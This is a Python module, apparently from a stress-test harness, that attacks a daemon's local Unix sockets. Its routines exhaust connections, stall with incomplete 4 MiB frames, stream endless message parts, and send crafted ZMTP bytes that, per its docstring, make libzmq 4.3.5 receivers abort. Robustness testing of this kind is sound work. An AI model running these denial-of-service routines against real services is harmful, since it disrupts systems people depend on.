"""Attacks on the listening sockets, without libzmq."""

from __future__ import annotations

import contextlib
import resource
import socket
from collections import deque
from pathlib import Path

from timerd_shm.declare.limits import FRAME_SIZE_MAX

from .attacker import Attacker

CONNECTIONS = 4_000
LOOKING = 200


def connect_raw(attacker: Attacker) -> None:
    """Hold as many connections as possible, CONNECTIONS at most, and send nothing."""
    _hold(attacker, [attacker.paths.commands, attacker.paths.liveness, attacker.paths.outcomes], socket.SOCK_STREAM)


def connect_packets(attacker: Attacker) -> None:
    """As `connect_raw`, with NAME.unix."""
    _hold(attacker, [attacker.paths.packets], socket.SOCK_SEQPACKET)


def _hold(attacker: Attacker, paths: list[Path], kind: int) -> None:
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    with contextlib.suppress(OSError, ValueError):
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    with contextlib.ExitStack() as stack:
        held = 0
        while attacker.is_on():
            for path in paths if held < CONNECTIONS else ():
                with contextlib.suppress(OSError):
                    connection = stack.enter_context(socket.socket(socket.AF_UNIX, kind))
                    connection.setblocking(False)
                    connection.connect(str(path))
                    held += 1
                    attacker.did()
            attacker.rest(0.0005)


def look_and_leave(attacker: Attacker) -> None:
    """Connect and leave, as fast as possible."""
    while attacker.is_on():
        for path in (attacker.paths.commands, attacker.paths.liveness, attacker.paths.outcomes, attacker.paths.packets):
            kind = socket.SOCK_SEQPACKET if path == attacker.paths.packets else socket.SOCK_STREAM
            with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX, kind) as connection:
                connection.setblocking(False)
                connection.connect(str(path))
                attacker.did()


def look_for_a_moment(attacker: Attacker) -> None:
    """As `look_and_leave`, but each connection stays until LOOKING later ones are there."""
    paths = (attacker.paths.commands, attacker.paths.liveness, attacker.paths.outcomes, attacker.paths.packets)
    open_ones: deque[socket.socket] = deque()
    while attacker.is_on():
        for path in paths:
            connection = socket.socket(
                socket.AF_UNIX, socket.SOCK_SEQPACKET if path == attacker.paths.packets else socket.SOCK_STREAM
            )
            open_ones.append(connection)
            with contextlib.suppress(OSError):
                connection.setblocking(False)
                connection.connect(str(path))
                attacker.did()
            if len(open_ones) > LOOKING:
                open_ones.popleft().close()


def leave_in_the_midst(attacker: Attacker) -> None:
    """Send more messages than libzmq's queues take, then a PING, then close: a receiver with libzmq 4.3.5 aborts."""
    while attacker.is_on():
        with contextlib.suppress(OSError), greeted(attacker) as connection:
            connection.sendall(b"\0\1x" * 150 + b"\4\x07\4PING\0\0")
            attacker.did()


def send_parts_without_end(attacker: Attacker) -> None:
    """Send one message whose parts never end."""
    part = b"\3" + (60_000).to_bytes(8, "big") + bytes(60_000)
    while attacker.is_on():
        with contextlib.suppress(OSError), greeted(attacker) as connection:
            while attacker.is_on():
                connection.sendall(part)
                attacker.did()


def hang_in_large_frames(attacker: Attacker) -> None:
    """Begin a frame of 4 MiB over each of many connections, and never send the last byte."""
    frame = b"\2" + FRAME_SIZE_MAX.to_bytes(8, "big") + bytes(FRAME_SIZE_MAX - 1)
    with contextlib.ExitStack() as stack:
        while attacker.is_on():
            with contextlib.suppress(OSError):
                connection = stack.enter_context(greeted(attacker))
                connection.settimeout(0.05)
                connection.sendall(frame)
                attacker.did()
            attacker.rest(0.001)


def greeted(attacker: Attacker) -> socket.socket:
    """A connection for commands that has sent the handshake of libzmq's DEALER."""
    ready = b"\x05READY\x0bSocket-Type" + (6).to_bytes(4, "big") + b"DEALER"
    greeting = b"\xff" + bytes(8) + b"\x7f\3\0" + b"NULL".ljust(20, b"\0") + bytes(32)
    connection = socket.socket(socket.AF_UNIX)
    connection.settimeout(1.0)
    try:
        connection.connect(str(attacker.paths.commands))
        connection.sendall(greeting + bytes((4, len(ready))) + ready)
    except OSError:
        connection.close()
        raise
    return connection
